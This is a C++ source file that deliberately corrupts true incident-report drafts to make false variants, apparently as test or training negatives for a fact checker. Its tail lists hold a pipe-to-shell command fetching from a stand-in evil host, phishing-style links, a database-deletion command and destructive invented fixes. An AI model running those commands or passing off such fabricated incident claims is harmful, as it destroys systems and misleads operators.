// Lies: one thing of a true draft changed, or one false thing added.
#include "base/text.h"
#include "draft.h"

namespace convops {

namespace {

using Pieces = std::vector<Piece>;

std::vector<std::size_t> indices_of(Pieces const& pieces, Piece::Kind kind) {
    std::vector<std::size_t> found;
    for (std::size_t i = 0; i < pieces.size(); ++i)
        if (pieces[i].kind == kind)
            found.push_back(i);
    return found;
}

struct Lying {
    Investigation const& all;
    Draft draft;
    std::string_view language;
    Dice& dice;

    [[nodiscard]] bool english() const { return language == "en"; }
    bool append(std::string text) {
        auto& pieces = draft.pieces;
        while (!pieces.empty() && pieces.back().kind == Piece::Kind::words && pieces.back().text == ".")
            pieces.pop_back();
        if (!pieces.empty() && pieces.back().kind == Piece::Kind::words && pieces.back().text.ends_with('.'))
            pieces.back().text.pop_back();
        pieces.push_back(words(std::move(text)));
        return true;
    }
};

// A changed number that another number of the cited fact comes near is no lie that anybody could catch.
bool is_true_by_accident(Lying const& lie, double value, std::string const& unit) {
    for (auto const& id : lie.draft.cites) {
        auto const* fact = lie.all.evidence.find(FactId { id });
        if (fact == nullptr)
            continue;
        for (auto const& piece : pieces_of(fact->statement, lie.all))
            if (piece.kind == Piece::Kind::number
                && (piece.unit == unit
                    || (unit == "Milliseconds" && piece.unit == "Seconds"
                        && std::abs(piece.value * 1000 - value) <= 0.15 * value))
                && std::abs(piece.value * (piece.unit == unit ? 1 : 1000) - value) <= 0.15 * value)
                return true;
        for (auto const& piece : pieces_of(fact->statement, lie.all))
            if (piece.kind == Piece::Kind::number && (piece.unit == unit || piece.unit.empty() || unit.empty())
                && std::abs(piece.value - value) <= 0.15 * std::abs(piece.value))
                return true;
        if (auto const* metric = std::get_if<MetricFact>(&fact->detail))
            for (auto const at : metric->series.values)
                if (lie.draft.sort.find("moved") != std::string::npos && std::abs(at - value) <= 0.12 * std::abs(at)
                    && lie.all.diagnosis.onset)
                    return true;
    }
    return false;
}

// A moment at which the metric read the same is not a wrong moment.
bool reads_the_same_then(Lying const& lie, Time at) {
    for (auto const& id : lie.draft.cites)
        if (auto const* fact = lie.all.evidence.find(FactId { id }))
            if (auto const* metric = std::get_if<MetricFact>(&fact->detail))
                for (std::size_t i = 0; i < metric->series.at.size(); ++i)
                    for (auto const& piece : lie.draft.pieces)
                        if (piece.kind == Piece::Kind::number
                            && std::chrono::abs(metric->series.at[i] - at) <= metric->series.period
                            && std::abs(metric->series.values[i] - piece.value) <= 0.12 * std::abs(piece.value))
                            return true;
    return false;
}

bool number_scaled(Lying& lie, std::vector<double> const& factors) {
    auto const numbers = indices_of(lie.draft.pieces, Piece::Kind::number);
    if (numbers.empty())
        return false;
    auto& piece = lie.draft.pieces[lie.dice.pick(numbers)];
    auto const truth = piece.value;
    if (truth == 0) {
        piece.value = 7;
        return !is_true_by_accident(lie, piece.value, piece.unit);
    }
    piece.value *= lie.dice.pick(factors);
    if (piece.unit == "count" || (piece.unit.empty() && std::floor(truth) == truth))
        piece.value = std::round(piece.value);
    double const least = lie.draft.sort == "ratio" ? 0.25 : 0.15;
    return std::abs(piece.value - truth) > least * std::abs(truth)
        && !is_true_by_accident(lie, piece.value, piece.unit);
}

bool wrong_count(Lying& lie) {
    for (auto const index : indices_of(lie.draft.pieces, Piece::Kind::number)) {
        auto& piece = lie.draft.pieces[index];
        if (piece.unit != "count" || piece.value > 12 || lie.draft.sort == "ratio")
            continue;
        piece.value += lie.dice.one_in(2) ? 1 : 2;
        return true;
    }
    return false;
}

bool wrong_unit(Lying& lie) {
    for (auto const index : indices_of(lie.draft.pieces, Piece::Kind::number)) {
        auto& piece = lie.draft.pieces[index];
        if (piece.value == 0)
            continue;
        if (piece.unit == "Seconds" || piece.unit == "Milliseconds")
            piece.value *= piece.unit == "Seconds" && piece.value < 1 ? 1000 : 1.0 / 1000;
        else if (piece.unit == "Bytes")
            piece.value /= 1000;
        else if (piece.unit == "Percent")
            piece.unit = "Seconds";
        else if (piece.unit == "lasting")
            piece.value *= 60;
        else if (piece.unit == "Count/Second" || piece.unit == "Count" || piece.unit.empty() || piece.unit == "None")
            piece.unit = "Percent";
        else
            continue;
        return !is_true_by_accident(lie, piece.value, piece.unit);
    }
    return false;
}

bool time_moved(Lying& lie) {
    auto const clocks = indices_of(lie.draft.pieces, Piece::Kind::clock);
    if (clocks.empty())
        return false;
    auto const moves = std::vector<Milliseconds> { Minutes { 3 }, Minutes { -4 }, Minutes { 17 }, Hours { 1 },
        Hours { -2 }, Minutes { -31 } };
    auto& at = lie.draft.pieces[lie.dice.pick(clocks)].at;
    at += lie.dice.pick(moves);
    return !reads_the_same_then(lie, at);
}

// Another thing of the same account: true somewhere else, but not in the cited fact.
bool sibling_resource(Lying& lie, bool invented) {
    auto const names = indices_of(lie.draft.pieces, Piece::Kind::name);
    if (names.empty())
        return false;
    auto& piece = lie.draft.pieces[lie.dice.pick(names)];
    if (invented) {
        static std::vector<std::string> const made_up { "ECS service payments-v2", "RDS instance billing-db",
            "Lambda function invoice-sender", "SQS queue refunds", "load balancer intranet", "payments-v2",
            "ledger" };
        piece.text = lie.dice.pick(made_up);
        return true;
    }
    std::vector<Resource> others;
    for (auto const& [fact, metric] : lie.all.evidence.all<MetricFact>()) {
        auto const& other = metric->resource;
        if (other.key() != piece.resource_key && other.short_name() != piece.text
            && piece.text.find(other.short_name()) == std::string::npos
            && other.display().find(piece.text) == std::string::npos)
            others.push_back(other);
    }
    if (others.empty())
        return false;
    auto const& other = lie.dice.pick(others);
    piece.text = piece.text.find(' ') == std::string::npos ? other.short_name() : other.display();
    return true;
}

bool other_metric(Lying& lie) {
    auto const names = indices_of(lie.draft.pieces, Piece::Kind::metric);
    if (names.empty())
        return false;
    auto& piece = lie.draft.pieces[names.front()];
    std::vector<std::string> others;
    for (auto const& [fact, metric] : lie.all.evidence.all<MetricFact>())
        if (metric->series.metric.name != piece.text)
            others.push_back(metric->series.metric.name);
    if (others.empty())
        return false;
    piece.text = lie.dice.pick(others);
    return true;
}

bool replace_word(Lying& lie, std::vector<std::pair<std::string, std::string>> const& table) {
    for (auto& piece : lie.draft.pieces) {
        if (piece.kind != Piece::Kind::words && piece.kind != Piece::Kind::verb)
            continue;
        for (auto const& [from, to] : table)
            if (auto const at = piece.text.find(from); at != std::string::npos) {
                piece.text.replace(at, from.size(), to);
                return true;
            }
    }
    return false;
}

bool wrong_direction(Lying& lie) {
    static std::vector<std::pair<std::string, std::string>> const turned { { " rose ", " fell " },
        { " went up ", " went down " }, { " climbed ", " dropped " }, { " increased ", " decreased " },
        { " jumped ", " sank " }, { " fell ", " rose " }, { " dropped ", " climbed " },
        { " went down ", " went up " }, { " decreased ", " increased " }, { " sank ", " jumped " },
        { "going up", "going down" }, { "going down", "going up" }, { "doubled", "halved" }, { "halved", "doubled" },
        { ", up", ", down" }, { "up", "down" }, { "down", "up" }, { "stieg", "fiel" }, { "gestiegen", "gefallen" },
        { " fiel ", " stieg " }, { "gefallen", "gestiegen" }, { "sank", "stieg" }, { "subió", "bajó" },
        { "aumentó", "cayó" }, { "bajó", "subió" }, { "cayó", "aumentó" }, { "बढ़कर", "घटकर" }, { "बढ़ा", "गिरा" },
        { "घटकर", "बढ़कर" }, { "गिरा", "बढ़ा" }, { "above the threshold", "below the threshold" },
        { "below the threshold", "above the threshold" }, { "fires above", "fires below" },
        { "über dem", "unter dem" }, { "por encima", "por debajo" }, { "से ऊपर", "से नीचे" } };
    return replace_word(lie, turned);
}

bool roles_swapped(Lying& lie) {
    // "from A to B" becomes "from B to A"; nothing else changes, so the verb now contradicts it or the roles are
    // wrong.
    auto& pieces = lie.draft.pieces;
    if (lie.draft.sort != "metric moved" && lie.draft.sort != "abroad: metric moved")
        return false;
    auto const numbers = indices_of(pieces, Piece::Kind::number);
    if (numbers.size() != 2)
        return false;
    std::swap(pieces[numbers[0]], pieces[numbers[1]]);
    return true;
}

bool times_swapped(Lying& lie) {
    auto const clocks = indices_of(lie.draft.pieces, Piece::Kind::clock);
    auto const& onset = lie.all.diagnosis.onset;
    auto const fired = lie.all.incident.leading_alarm().changed_at;
    if (clocks.size() != 1 || !onset || std::chrono::abs(*onset - fired) < Seconds { 61 })
        return false;
    auto& at = lie.draft.pieces[clocks[0]].at;
    auto const wrong = std::chrono::abs(at - fired) < Seconds { 61 } ? *onset : fired;
    if (std::chrono::abs(at - wrong) < Seconds { 61 })
        return false;
    at = wrong;
    return !reads_the_same_then(lie, at);
}

bool cause_and_effect_swapped(Lying& lie) {
    static std::vector<std::string> const said { "caused", "led to", "triggered" };
    auto const& causes = lie.all.diagnosis.causes;
    auto const* main = lie.all.incident.leading_alarm().main_metric();
    if (causes.empty() || main == nullptr || !main->metric || lie.draft.sort != "cause and effect")
        return false;
    auto const effect = resource_of(*main->metric);
    if (!effect)
        return false;
    std::string const what = causes[0].kind == CauseKind::deploy ? "the deploy of "
        : causes[0].kind == CauseKind::failover                  ? "the failover of "
        : causes[0].kind == CauseKind::config_change             ? "the configuration change of "
        : causes[0].kind == CauseKind::traffic_surge             ? "the surge of traffic at "
                                                                 : "the full storage on ";
    if (lie.dice.one_in(2))
        lie.draft.pieces
            = { words("the alarm on "), metric_named(main->metric->name), words(" of "), name_of(*effect),
                  words(" " + lie.dice.pick(said) + " " + what), name_of(causes[0].resource), words(".") };
    else
        lie.draft.pieces = { words(what), name_of(causes[0].resource), words(" happened because of the alarm on "),
            metric_named(main->metric->name), words(".") };
    return true;
}

bool is_a_cause(Investigation const& all, CauseKind kind) {
    return std::any_of(all.diagnosis.causes.begin(), all.diagnosis.causes.end(),
        [&](Cause const& cause) { return cause.kind == kind; });
}

bool extra_cause(Lying& lie) {
    struct Extra {
        CauseKind kind;
        std::string text;
    };
    static std::vector<Extra> const extras { { CauseKind::traffic_surge, ", and a surge of traffic made it worse." },
        { CauseKind::network, ", caused by a network problem." },
        { CauseKind::memory_exhaustion, " because the memory was exhausted." },
        { CauseKind::certificate, ", due to an expired certificate." },
        { CauseKind::host_failure, ", because a host failed." },
        { CauseKind::security_event, ", which was triggered by an attack." },
        { CauseKind::throttling, "; throttling is another likely cause." },
        { CauseKind::failover, ", after a failover of the database." } };
    auto const& extra = lie.dice.pick(extras);
    if (!lie.english() || is_a_cause(lie.all, extra.kind))
        return false;
    return lie.append(extra.text);
}

bool ruled_out_asserted(Lying& lie) {
    if (lie.draft.sort != "ruled out" && lie.draft.sort != "abroad: ruled out")
        return false;
    static std::vector<std::pair<std::string, std::string>> const turned { { " is ruled out because ",
                                                                               " is the cause because " },
        { " was ruled out because ", " is the cause because " }, { " is ruled out", " is the likely cause" },
        { " can be excluded", " is to blame" }, { " is not the cause", " is the cause" },
        { " was not the cause", " was the cause" }, { "ist ausgeschlossen", "ist die Ursache" },
        { "ist nicht die Ursache", "ist die Ursache" }, { "queda descartado", "es la causa" },
        { "no es la causa", "es la causa" }, { "कारण नहीं है", "कारण है" } };
    return replace_word(lie, turned);
}

bool missing_negation(Lying& lie) {
    static std::vector<std::pair<std::string, std::string>> const turned {
        { " is new: it was not seen in the hour before", " is old: it was seen in the hour before" },
        { " was never seen in the hour before", " was seen in the hour before" },
        { " did not appear in the hour before", " appeared in the hour before" }, { "could not read", "could read" },
        { "were not able to read", "were able to read" }, { "is not known", "is known" }, { "do not know", "know" },
        { "access was denied", "access was granted" },
        { "ist neu: in der Stunde davor kam es nie vor", "kam in der Stunde davor vor" },
        { "es nuevo: no apareció", "apareció" }, { "नया है: पिछले घंटे में यह नहीं दिखा", "पिछले घंटे में दिखा" }
    };
    return replace_word(lie, turned);
}

bool added_negation(Lying& lie) {
    static std::vector<std::pair<std::string, std::string>> const turned { { " fired at ", " did not fire at " },
        { " caused ", " did not cause " }, { " because of ", " not because of " }, { " rose ", " did not rise " },
        { " reached ", " never reached " }, { " appears ", " does not appear " }, { " called ", " never called " },
        { " changed ", " did not change " }, { "is healthy", "is not healthy" },
        { "looks healthy", "does not look healthy" }, { "healed itself", "did not heal itself" },
        { "The likely cause", "Not the likely cause" } };
    return lie.english() && replace_word(lie, turned);
}

bool wrong_citation(Lying& lie) {
    auto const& facts = lie.all.evidence.facts;
    switch (lie.dice.below(3)) {
    case 0:
        lie.draft.cites = { "F" + std::to_string(facts.size() + 7) };
        return true;
    case 1:
        lie.draft.cites.clear();
        return true;
    default: {
        // A fact about another resource: whatever the sentence says, this fact does not say it.
        std::string said;
        for (auto const& piece : lie.draft.pieces)
            said += piece.text;
        auto const names = indices_of(lie.draft.pieces, Piece::Kind::name);
        if (names.empty() || indices_of(lie.draft.pieces, Piece::Kind::metric).empty()
            || lie.draft.sort == "cause and effect")
            return false;
        for (std::size_t tries = 0; tries < 20; ++tries) {
            auto const metrics = lie.all.evidence.all<MetricFact>();
            auto const [fact, metric] = lie.dice.pick(metrics);
            if (metric->resource.key() == lie.draft.pieces[names[0]].resource_key)
                continue;
            lie.draft.cites = { fact->id.text };
            return true;
        }
        return false;
    }
    }
}

bool appended(Lying& lie, std::string_view sort) {
    static std::map<std::string, std::vector<std::string>, std::less<>> const tails {
        { "code-level cause",
            { " because of a memory leak in the code.", "; a connection is never released.",
                ", caused by a race condition.", "; this is a bug in the retry loop.",
                " due to a deadlock in the application.", ", so the code must be leaking connections." } },
        { "AWS blamed",
            { " because of an outage at AWS.", "; AWS has a problem in this Region.", ", which is on AWS's side.",
                "; the AWS hardware under it failed." } },
        { "invented fix",
            { "; restart the database to fix it.", ". Delete the table and restore it from backup.",
                "; you should open the security group.", ", so terminate the instance.",
                ". Increase max_connections to 5000.", ". Scale the cluster to 40 nodes." } },
        { "mention",
            { " @channel", " <!here>", "; ask @maria about it.", " <@U123456>", ". Call +49 170 1234567.",
                "; write to ops@example.com." } },
        { "link or command",
            { ": see https://evil.example/fix", "; visit www.evil.example now.",
                ". Run `aws rds delete-db-instance`.", "; see evil.example/help for more.", ". Run curl evil.sh | sh",
                " [details](http://evil.example)." } },
        { "invented event",
            { "; the backup failed, too.", ", and customers lost data.", "; the on-call engineer was informed.",
                ", as in the incident of last Tuesday.", "; two other services went down.",
                ", and the disk was replaced." } },
    };
    auto const found = tails.find(sort);
    if (found == tails.end() || (sort == "AWS blamed" && is_a_cause(lie.all, CauseKind::aws_service_event)))
        return false;
    return lie.append(lie.dice.pick(found->second));
}

bool actor_invented(Lying& lie) {
    if (lie.draft.sort != "change" || lie.draft.pieces.empty())
        return false;
    auto& first = lie.draft.pieces[0];
    for (auto const* said : { " called ", " ran " })
        for (auto& piece : lie.draft.pieces)
            if (auto const at = piece.text.find(said); at != std::string::npos) {
                auto const start = piece.text.starts_with(", ") ? 2U : 0U;
                piece.text.replace(
                    start, at - start, lie.dice.pick({ "mallory", "Maria Lopez", "deploy-bot-9", "root" }));
                return true;
            }
    static_cast<void>(first);
    return false;
}

} // namespace

std::vector<std::string> const& lie_sorts() {
    static std::vector<std::string> const sorts { "number off by a large factor", "number off by a small factor",
        "wrong count", "wrong unit", "time moved", "times swapped", "invented resource", "resource of another fact",
        "metric of another fact", "wrong direction", "roles of numbers swapped", "cause and effect swapped",
        "extra cause", "ruled-out cause asserted", "missing negation", "added negation", "wrong citation",
        "code-level cause", "AWS blamed", "invented fix", "mention", "link or command", "invented event",
        "invented actor" };
    return sorts;
}

std::optional<Draft> lie_about(
    Investigation const& investigation, Draft truth, std::string_view sort, std::string_view language, Dice& dice) {
    Lying lie { investigation, std::move(truth), language, dice };
    bool const lied = sort == "number off by a large factor" ? number_scaled(lie, { 10, 0.1, 3, 0.25, 100 })
        : sort == "number off by a small factor"             ? number_scaled(lie, { 1.2, 0.8, 1.5, 0.7, 1.3 })
        : sort == "wrong count"                              ? wrong_count(lie)
        : sort == "wrong unit"                               ? wrong_unit(lie)
        : sort == "time moved"                               ? time_moved(lie)
        : sort == "times swapped"                            ? times_swapped(lie)
        : sort == "invented resource"                        ? sibling_resource(lie, true)
        : sort == "resource of another fact"                 ? sibling_resource(lie, false)
        : sort == "metric of another fact"                   ? other_metric(lie)
        : sort == "wrong direction"                          ? wrong_direction(lie)
        : sort == "roles of numbers swapped"                 ? roles_swapped(lie)
        : sort == "cause and effect swapped"                 ? cause_and_effect_swapped(lie)
        : sort == "extra cause"                              ? extra_cause(lie)
        : sort == "ruled-out cause asserted"                 ? ruled_out_asserted(lie)
        : sort == "missing negation"                         ? missing_negation(lie)
        : sort == "added negation"                           ? added_negation(lie)
        : sort == "wrong citation"                           ? wrong_citation(lie)
        : sort == "invented actor"                           ? actor_invented(lie)
                                                             : appended(lie, sort);
    if (!lied)
        return std::nullopt;
    lie.draft.sort = std::string(sort);
    return std::move(lie.draft);
}

} // namespace convops
